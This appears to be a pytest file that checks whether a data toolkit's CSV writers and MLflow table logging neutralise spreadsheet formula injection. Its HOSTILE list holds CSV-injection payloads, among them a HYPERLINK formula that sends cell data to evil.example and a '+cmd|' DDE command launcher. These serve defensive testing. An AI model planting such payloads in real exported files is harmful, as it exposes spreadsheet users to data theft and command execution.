"""Every CSV the toolkit writes is as safe in a spreadsheet as ``scores.csv``: a text cell that
could start a formula (``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM``, ``-2+3``, a tab or CR before
it, the fullwidth and zero-width variants) gets the leading apostrophe of
:func:`resilience.data.csv_safety.csv_safe`, and numbers stay numbers (``-0.03`` is not text).

Covered: ``outcomes_fairness.csv`` and ``outcomes.csv`` (resilience-outcomes, through
``write_frame_atomic``) and the tables a training run logs to MLflow (``tables/slice_metrics.csv``,
``tables/fairness.csv``, ``tables/test_predictions.csv``, through ``runs.log_frame``).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import run_command
from test_hostile_input import starts_a_formula
from test_report import write_fake_week

from resilience.core import week_files
from resilience.data.csv_safety import csv_safe
from resilience.data.io import write_frame_atomic

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=cmd",
    "\uff1dSUM(1)",  # fullwidth =
    "\u200b=1+1",  # zero-width space first
    "\u2212 1",  # the minus sign
]


def cells(text: str) -> list[list[str]]:
    """Every row of a CSV as Python's csv module reads it (a spreadsheet sees the same cells)."""
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formula_cells(text: str) -> list[str]:
    """The cells a spreadsheet would read as a formula (a number such as -0.03 is a number)."""
    rows = cells(text)
    return [cell for row in rows for cell in row if starts_a_formula(cell) and not is_number(cell)]


def assert_inert(text: str, values: list[str]) -> None:
    """No cell starts a formula, and each hostile value is there, neutralised as scores.csv does."""
    assert formula_cells(text) == []
    found = {cell for row in cells(text) for cell in row}
    for value in values:
        assert csv_safe(value) in found, (value, csv_safe(value))


def hostile_frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "slice": ["policing_area"] * n,
            "value": HOSTILE,
            "calibration_gap": np.linspace(-0.03, 0.04, n),
            "rows": np.arange(n) + 40,
            "suppressed": [False] * n,
        }
    )


def test_write_frame_atomic_neutralises_text_and_keeps_numbers(tmp_path):
    """The writer of outcomes.csv and outcomes_fairness.csv (and the leaderboard's table)."""
    path = write_frame_atomic(hostile_frame(), tmp_path / "table.csv")
    text = path.read_text(encoding="utf-8")
    assert_inert(text, HOSTILE)
    back = pd.read_csv(path)
    assert back["calibration_gap"].tolist() == pytest.approx(np.linspace(-0.03, 0.04, 9).tolist())
    assert (
        pd.api.types.is_float_dtype(back["calibration_gap"]) and back["calibration_gap"].min() < 0
    )
    assert pd.api.types.is_integer_dtype(back["rows"]) and back["suppressed"].dtype == bool
    assert not list(tmp_path.glob(".*.tmp")), "nothing half-written is left beside it"


def test_a_logged_table_neutralises_text_and_keeps_numbers(mlflow_uri, tmp_path):
    """``runs.log_frame`` writes every table a run logs (tables/*.csv) as scores.csv is written."""
    import mlflow

    from resilience.tracking import runs

    with mlflow.start_run() as run:
        runs.log_frame(hostile_frame(), "tables/slice_metrics.csv")
    local = mlflow.artifacts.download_artifacts(
        run_id=run.info.run_id, artifact_path="tables/slice_metrics.csv", dst_path=str(tmp_path)
    )
    text = Path(local).read_text(encoding="utf-8")
    assert_inert(text, HOSTILE)
    back = pd.read_csv(local)
    assert (
        pd.api.types.is_float_dtype(back["calibration_gap"]) and back["calibration_gap"].min() < 0
    )


@pytest.mark.slow
def test_a_training_run_on_hostile_area_names_logs_inert_tables(tiny_history, contract, mlflow_uri):
    """Area names that start formulas (they pass validation: an area is free text) reach the
    slice, fairness and test-prediction tables a run logs; each is written inert."""
    from mlflow.tracking import MlflowClient
    from test_train import run

    # controls are refused at the door; a "//" in an area name breaks MLflow's metric names
    # (auc.policing_area.<name>) before any table is logged, so this HYPERLINK has no scheme
    allowed = ['=HYPERLINK("evil.example/?x="&A1,"click")'] + [
        v for v in HOSTILE[1:] if v[0] not in "\t\r"
    ]
    areas = sorted(tiny_history["policing_area"].astype(str).unique())
    renamed = {area: allowed[i % len(allowed)] for i, area in enumerate(areas)}
    history = tiny_history.assign(
        policing_area=tiny_history["policing_area"].astype(str).map(renamed).astype("category")
    )
    result = run(history, contract, mlflow_uri, register=False)
    client = MlflowClient(mlflow_uri)
    for name in ("tables/slice_metrics.csv", "tables/fairness.csv", "tables/test_predictions.csv"):
        local = client.download_artifacts(result.run_id, name, str(Path(mlflow_uri[10:]).parent))
        text = Path(local).read_text(encoding="utf-8")
        assert formula_cells(text) == [], name
        found = {cell for row in cells(text) for cell in row}
        assert {csv_safe(v) for v in allowed} & found, name


def hostile_weeks(root: Path, n_lines: int = 150) -> pd.Series:
    """Two scored weeks whose policing areas are hostile text, disrupted a year before their
    week (outcomes long known); returns every disruption id."""
    ids = []
    for seed, week in enumerate(("2026-W46", "2026-W47")):
        folder = write_fake_week(root / week, n_lines=n_lines, seed=seed, week=week)
        path = folder / week_files.SCORES_PARQUET
        scores = pd.read_parquet(path)
        scores["policing_area"] = [HOSTILE[i % 3] for i in range(len(scores))]
        dates = pd.to_datetime(scores["disruption_date"]) - pd.Timedelta(weeks=52)
        scores["disruption_date"] = dates.dt.strftime("%Y-%m-%d")
        scores.to_parquet(path, index=False)
        ids += list(scores["disruption_id"])
    return pd.Series(ids)


def test_outcomes_fairness_csv_from_hostile_area_names_is_inert(tmp_path, mlflow_uri):
    import mlflow

    mlflow.search_experiments()  # the store exists (commands that read it never create one)
    root = tmp_path / "weekly"
    ids = hostile_weeks(root)
    rng = np.random.default_rng(0)
    path = tmp_path / "labels.csv"
    pd.DataFrame({"disruption_id": ids, "persisted_12w": rng.random(len(ids)) < 0.5}).to_csv(
        path, index=False
    )
    result = run_command(
        "resilience-outcomes",
        f"input={path}",
        f"output_root={root}",
        f"hydra.run.dir={tmp_path / 'run'}",
        cwd=tmp_path,
        env={"MLFLOW_TRACKING_URI": mlflow_uri},
    )
    assert result.returncode == 0, result.stderr[-3000:]
    text = (root / week_files.OUTCOMES_FAIRNESS_CSV).read_text(encoding="utf-8")
    assert_inert(text, HOSTILE[:3])
    fairness = pd.read_csv(root / week_files.OUTCOMES_FAIRNESS_CSV)
    assert pd.api.types.is_float_dtype(fairness["calibration_gap"])
    assert formula_cells((root / week_files.OUTCOMES_CSV).read_text(encoding="utf-8")) == []
